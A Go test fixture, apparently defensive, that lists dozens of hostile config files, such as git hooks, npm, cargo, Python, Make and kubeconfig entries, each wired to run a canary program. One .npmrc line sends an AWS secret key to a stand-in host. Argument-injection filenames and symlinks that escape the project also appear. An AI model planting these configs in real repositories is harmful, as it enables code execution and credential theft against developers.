package main

// hostile is a file that an attacker puts into a repository.
type hostile struct {
	name    string // relative to the project
	text    string // @CANARY@ is the path of the program that must not run
	appends bool   // the text is added to that of the plain file
}

// linkTo begins the text of a hostile file that is a link.
const linkTo = "link to "

// hostiles are files that programs may obey. Every program is tried with all of
// them, whichever it reads by its manual.
var hostiles = []hostile{
	{name: ".git/config", appends: true, text: `
[core]
	fsmonitor = @CANARY@
	pager = @CANARY@
	sshCommand = @CANARY@
	editor = @CANARY@
	hooksPath = .hooks
	askPass = @CANARY@
	alternateRefsCommand = @CANARY@
	gitProxy = @CANARY@
	attributesFile = .attributes
[diff]
	external = @CANARY@
	wsErrorHighlight = all
[diff "evil"]
	textconv = @CANARY@
	command = @CANARY@
[filter "evil"]
	clean = @CANARY@
	smudge = @CANARY@
	process = @CANARY@
	required = true
[pager]
	log = @CANARY@
	diff = @CANARY@
	status = @CANARY@
	branch = @CANARY@
[gpg]
	program = @CANARY@
[log]
	showSignature = true
[alias]
	x = !@CANARY@
[credential]
	helper = !@CANARY@
[uploadpack]
	packObjectsHook = @CANARY@
[interactive]
	diffFilter = @CANARY@
[remote "origin"]
	vcs = evil
	uploadpack = @CANARY@
`},
	{name: ".gitattributes", text: "*.txt diff=evil filter=evil\n*.md diff=evil\n"},
	{name: ".attributes", text: "* diff=evil filter=evil\n"},
	{name: ".gitmodules", text: "[submodule \"sub\"]\n\tpath = sub\n\turl = ext::@CANARY@\n\tupdate = !@CANARY@\n"},
	{name: ".git/hooks/post-index-change", text: "#!/bin/sh\n@CANARY@\n"},
	{name: ".git/hooks/pre-commit", text: "#!/bin/sh\n@CANARY@\n"},
	{name: ".git/hooks/fsmonitor-watchman", text: "#!/bin/sh\n@CANARY@\n"},
	{name: ".hooks/post-index-change", text: "#!/bin/sh\n@CANARY@\n"},
	{name: ".gitconfig", text: "[core]\n\tfsmonitor = @CANARY@\n"},
	{name: ".npmrc", text: "registry=http://127.0.0.1:9/${AWS_SECRET_ACCESS_KEY}/\nviewer=@CANARY@\nbrowser=@CANARY@\nscript-shell=@CANARY@\ngit=@CANARY@\nnode-options=--require ./evil.js\nprefix=@PROJECT@/evil\ncache=@PROJECT@/cache\neditor=@CANARY@\nupdate-notifier=true\nlogs-dir=@PROJECT@/logs\ninit-module=@PROJECT@/evil.js\n"},
	{name: ".yarnrc", text: "yarn-path \"./evil.js\"\nregistry \"http://127.0.0.1:9/\"\n"},
	{name: ".yarnrc.yml", text: "yarnPath: ./evil.js\nplugins:\n  - path: ./evil.js\nnpmRegistryServer: http://127.0.0.1:9\nunsafeHttpWhitelist: ['*']\n"},
	{name: "evil.js", text: "require('child_process').execFileSync('@CANARY@')\n"},
	{name: ".pnpmfile.cjs", text: "require('child_process').execFileSync('@CANARY@')\n"},
	{name: "pnpm-workspace.yaml", text: "packages: ['.']\nmanagePackageManagerVersions: true\nscriptShell: @CANARY@\n"},
	{name: "bunfig.toml", text: "preload = [\"./evil.js\"]\n[install]\nregistry = \"http://127.0.0.1:9\"\n"},
	{name: "deno.json", text: `{"tasks": {"test": "@CANARY@"}, "importMap": "http://127.0.0.1:9/x.json"}` + "\n"},
	{name: "package.json", text: `{"name": "project", "version": "1.0.0", "packageManager": "pnpm@9.9.9", "dependencies": {"left-pad": "1.3.0"}, "bin": "./evil.js", "scripts": {"preinstall": "@CANARY@", "ls": "@CANARY@", "version": "@CANARY@", "preversion": "@CANARY@", "env": "@CANARY@", "help": "@CANARY@", "list": "@CANARY@", "test": "@CANARY@"}, "devEngines": {"runtime": {"name": "node", "version": ">99", "onFail": "download"}}}` + "\n"},
	{name: "node_modules/.bin/ls", text: "#!/bin/sh\n@CANARY@\n"},
	{name: "node_modules/.bin/node", text: "#!/bin/sh\n@CANARY@\n"},
	{name: "node_modules/.hooks/preinstall", text: "#!/bin/sh\n@CANARY@\n"},
	{name: "node_modules/node/package.json", text: `{"name": "node", "main": "../../evil.js"}` + "\n"},
	{name: ".tool-versions", text: "nodejs path:@PROJECT@/evil\npython path:@PROJECT@/evil\nrust path:@PROJECT@/evil\n"},
	{name: "mise.toml", text: "[env]\n_.source = \"./a.sh\"\n[tools]\nnode = \"path:./evil\"\n[hooks]\nenter = \"@CANARY@\"\n"},
	{name: ".envrc", text: "@CANARY@\n"},
	{name: ".python-version", text: "../../../evil\n"},
	{name: ".nvmrc", text: "../evil\n"},
	{name: "sitecustomize.py", text: "import subprocess; subprocess.run(['@CANARY@'])\n"},
	{name: "usercustomize.py", text: "import subprocess; subprocess.run(['@CANARY@'])\n"},
	{name: "pip.py", text: "import subprocess; subprocess.run(['@CANARY@'])\n"},
	{name: "json.py", text: "import subprocess; subprocess.run(['@CANARY@'])\n"},
	{name: "pyvenv.cfg", text: "home = @PROJECT@/evil\n"},
	{name: "pip.conf", text: "[global]\nindex-url = http://127.0.0.1:9/\n"},
	{name: "setup.cfg", text: "[flake8]\ninstall-import-hook = evil\n[mypy]\nplugins = ./evil.py\n[aliases]\n"},
	{name: "conftest.py", text: "import subprocess; subprocess.run(['@CANARY@'])\n"},
	{name: "pyproject.toml", text: "[tool.uv]\nindex-url = \"http://127.0.0.1:9/\"\n[tool.ruff]\nextend = \"../evil.toml\"\nrequired-version = \">=99\"\n[tool.mypy]\nplugins = [\"./evil.py\"]\n[build-system]\nbuild-backend = \"evil\"\nbackend-path = [\".\"]\n"},
	{name: "uv.toml", text: "index-url = \"http://127.0.0.1:9/\"\n"},
	{name: "ruff.toml", text: "extend = \"/etc/passwd\"\n"},
	{name: "go.mod", text: "module example.com/project\n\ngo 1.20\n\ntoolchain go1.99.9\n\nrequire evil.example/x v1.0.0\n\nreplace evil.example/y => ../evil\n"},
	{name: "go.work", text: "go 1.99\n\ntoolchain go1.99.9\n\nuse .\n"},
	{name: "go.env", text: "GOPROXY=http://127.0.0.1:9\nGOFLAGS=-toolexec=@CANARY@\n"},
	{name: "vendor/modules.txt", text: "# evil.example/x v1.0.0\n"},
	{name: "evil.go", text: "package main\n\n// #cgo pkg-config: evil\n// #cgo CFLAGS: -fplugin=./evil.so\nimport \"C\"\n\nimport _ \"evil.example/x/y\"\n\n//go:generate @CANARY@\n"},
	{name: "rust-toolchain.toml", text: "[toolchain]\n\"p\\u0061th\" = \"@PROJECT@/evil\"\n"},
	{name: "rust-toolchain", text: "nightly-2099-01-01\n"},
	{name: ".cargo/config.toml", text: "[build]\nrustc = \"@CANARY@\"\nrustc-wrapper = \"@CANARY@\"\n[alias]\nv = \"run\"\nx = \"version\"\n[registry]\nglobal-credential-providers = [\"@CANARY@\"]\n[net]\ngit-fetch-with-cli = true\n[source.crates-io]\nreplace-with = \"evil\"\n[source.evil]\nregistry = \"sparse+http://127.0.0.1:9/\"\n[env]\nX = \"1\"\n"},
	{name: "build.rs", text: "fn main() { std::process::Command::new(\"@CANARY@\").status(); }\n"},
	{name: "rustfmt.toml", text: "ignore = []\n"},
	{name: "clippy.toml", text: "msrv = \"1.0\"\n"},
	{name: ".terraform/terraform.tfstate", text: `{"version": 3, "backend": {"type": "http", "config": {"address": "http://127.0.0.1:9"}}}` + "\n"},
	{name: ".terraform/environment", text: "evil"},
	{name: "main.tf", text: "terraform {\n  backend \"http\" { address = \"http://127.0.0.1:9\" }\n  required_providers { evil = { source = \"evil/evil\" } }\n}\ndata \"external\" \"x\" { program = [\"@CANARY@\"] }\n"},
	{name: "terraform.tfstate", text: `{"version": 4, "terraform_version": "1.0.0", "serial": 1, "lineage": "x", "outputs": {}, "resources": []}` + "\n"},
	{name: ".terraformrc", text: "credentials_helper \"evil\" {}\n"},
	{name: ".terraform.lock.hcl", text: "provider \"registry.terraform.io/evil/evil\" {\n  version = \"1.0.0\"\n}\n"},
	{name: "Makefile", text: "X := $(shell @CANARY@)\nall:\n\t@CANARY@\n"},
	{name: "GNUmakefile", text: "X := $(shell @CANARY@)\n"},
	{name: "Rakefile", text: "system '@CANARY@'\n"},
	{name: "Gemfile", text: "system '@CANARY@'\n"},
	{name: ".rspec", text: "--require ./evil.rb\n"},
	{name: ".rubocop.yml", text: "require: ./evil.rb\n"},
	{name: ".bundle/config", text: "---\nBUNDLE_GEMFILE: \"@PROJECT@/Gemfile\"\nBUNDLE_PATH: \"evil\"\n"},
	{name: ".irbrc", text: "system '@CANARY@'\n"},
	{name: "composer.json", text: `{"scripts": {"test": "@CANARY@"}}` + "\n"},
	{name: "justfile", text: "x := `@CANARY@`\ndefault:\n    @CANARY@\n"},
	{name: "CMakeLists.txt", text: "execute_process(COMMAND @CANARY@)\n"},
	{name: "CMakePresets.json", text: "{\"version\": 3}\n"},
	{name: ".mvn/jvm.config", text: "-javaagent:evil.jar\n"},
	{name: ".mvn/maven.config", text: "-f\nevil.xml\n"},
	{name: ".mvn/extensions.xml", text: "<extensions><extension><groupId>evil</groupId><artifactId>evil</artifactId><version>1</version></extension></extensions>\n"},
	{name: "pom.xml", text: "<project/>\n"},
	{name: "gradle.properties", text: "org.gradle.jvmargs=-javaagent:evil.jar\norg.gradle.java.home=@PROJECT@/evil\n"},
	{name: "build.gradle", text: "\"@CANARY@\".execute()\n"},
	{name: "settings.gradle", text: "\"@CANARY@\".execute()\n"},
	{name: "global.json", text: `{"sdk": {"version": "9.9.9", "paths": ["./evil"]}}` + "\n"},
	{name: "Directory.Build.props", text: "<Project/>\n"},
	{name: "nuget.config", text: "<configuration/>\n"},
	{name: ".jvmopts", text: "-javaagent:evil.jar\n"},
	{name: "JDK_JAVA_OPTIONS", text: "-javaagent:evil.jar\n"},
	{name: ".bazelrc", text: "startup --host_jvm_args=-javaagent:evil.jar\n"},
	{name: ".bazelversion", text: "99.0.0\n"},
	{name: "tools/bazel", text: "#!/bin/sh\n@CANARY@\n"},
	{name: ".ripgreprc", text: "--pre=@CANARY@\n"},
	{name: ".ignore", text: "!.env\n"},
	{name: ".rgignore", text: "!.env\n"},
	{name: ".fdignore", text: "!.env\n"},
	{name: ".agignore", text: "!.env\n"},
	{name: ".ackrc", text: "--pager=@CANARY@\n"},
	{name: ".curlrc", text: "url = http://127.0.0.1:9/\noutput = evil.out\n"},
	{name: ".wgetrc", text: "use_askpass=@CANARY@\n"},
	{name: ".screenrc", text: "exec @CANARY@\n"},
	{name: ".tmux.conf", text: "run-shell @CANARY@\n"},
	{name: ".lessfilter", text: "#!/bin/sh\n@CANARY@\n"},
	{name: ".lesskey", text: "#command\n"},
	{name: ".vimrc", text: "!@CANARY@\n"},
	{name: ".exrc", text: "!@CANARY@\n"},
	{name: ".nvim.lua", text: "os.execute('@CANARY@')\n"},
	{name: ".bashrc", text: "@CANARY@\n"},
	{name: ".profile", text: "@CANARY@\n"},
	{name: ".inputrc", text: "$include /etc/passwd\n"},
	{name: ".jq", text: "def evil: input;\n"},
	{name: ".sqliterc", text: ".shell @CANARY@\n"},
	{name: ".psqlrc", text: "\\! @CANARY@\n"},
	{name: ".my.cnf", text: "[client]\npager=@CANARY@\n"},
	{name: ".shellcheckrc", text: "external-sources=true\nsource-path=/\n"},
	{name: "sub/.shellcheckrc", text: "external-sources=true\nsource-path=/\n"},
	{name: ".dockerignore", text: "!.env\n"},
	{name: ".docker/config.json", text: `{"credsStore": "evil"}` + "\n"},
	{name: "compose.yaml", text: "include:\n  - http://127.0.0.1:9/x.git\nservices:\n  a:\n    env_file: .env\n    image: x\n"},
	{name: "compose.override.yaml", text: "include:\n  - http://127.0.0.1:9/x.git\n"},
	{name: ".kube/config", text: "users:\n- name: x\n  user:\n    exec:\n      command: @CANARY@\n"},
	{name: "kubeconfig", text: "users:\n- name: x\n  user:\n    exec:\n      command: @CANARY@\n"},
	{name: "Chart.yaml", text: "name: x\n"},
	{name: ".golangci.yml", text: "version: \"2\"\nlinters:\n  settings:\n    custom:\n      evil:\n        path: ./evil.so\n"},
	{name: ".goreleaser.yml", text: "before:\n  hooks: [@CANARY@]\n"},
	{name: ".prettierrc.js", text: "require('child_process').execFileSync('@CANARY@')\n"},
	{name: "eslint.config.js", text: "require('child_process').execFileSync('@CANARY@')\n"},
	{name: "tsconfig.json", text: "{\"compilerOptions\": {\"plugins\": [{\"name\": \"./evil\"}]}}\n"},
	{name: "biome.json", text: "{\"extends\": [\"./evil.json\"]}\n"},
	{name: ".editorconfig", text: "root = true\n"},
	{name: "perl5db.pl", text: "system('@CANARY@');\n"},
	{name: ".perltidyrc", text: "-b\n"},
	{name: "php.ini", text: "auto_prepend_file=evil.php\n"},
	{name: ".user.ini", text: "auto_prepend_file=evil.php\n"},
	{name: ".gdbinit", text: "shell @CANARY@\n"},
	{name: ".lldbinit", text: "platform shell @CANARY@\n"},
	{name: "ansible.cfg", text: "[defaults]\ncallback_plugins=./evil\nvault_password_file=@CANARY@\n"},
	{name: "Vagrantfile", text: "system '@CANARY@'\n"},
	{name: "Brewfile", text: "system '@CANARY@'\n"},
	{name: "Pulumi.yaml", text: "name: x\nruntime: nodejs\n"},
	{name: ".hgrc", text: "[hooks]\n"},
	{name: ".hg/hgrc", text: "[alias]\nstatus = !@CANARY@\n[extensions]\nevil = ./evil.py\n"},
	{name: ".svn/entries", text: "12\n"},
	{name: ".jj/repo/config.toml", text: "[ui]\npager = \"@CANARY@\"\n"},
	{name: "magic", text: "0 string x evil\n"},
	{name: ".magic", text: "0 string x evil\n"},
	{name: ".dircolors", text: "X\n"},
	{name: ".yamllint", text: "locale: x\n"},
	{name: ".pre-commit-config.yaml", text: "repos: []\n"},
	{name: "src/l.go", text: linkTo + "../../outside.go"},
	{name: "src/d", text: linkTo + "../../outside"},
	{name: "sub/l.sh", text: linkTo + "../../outside.sh"},
	{name: "-rf", text: "x\n"},
	{name: "-exec", text: "x\n"},
	{name: "--help", text: "x\n"},
	{name: "--use-compress-program=canary", text: "x\n"},
}
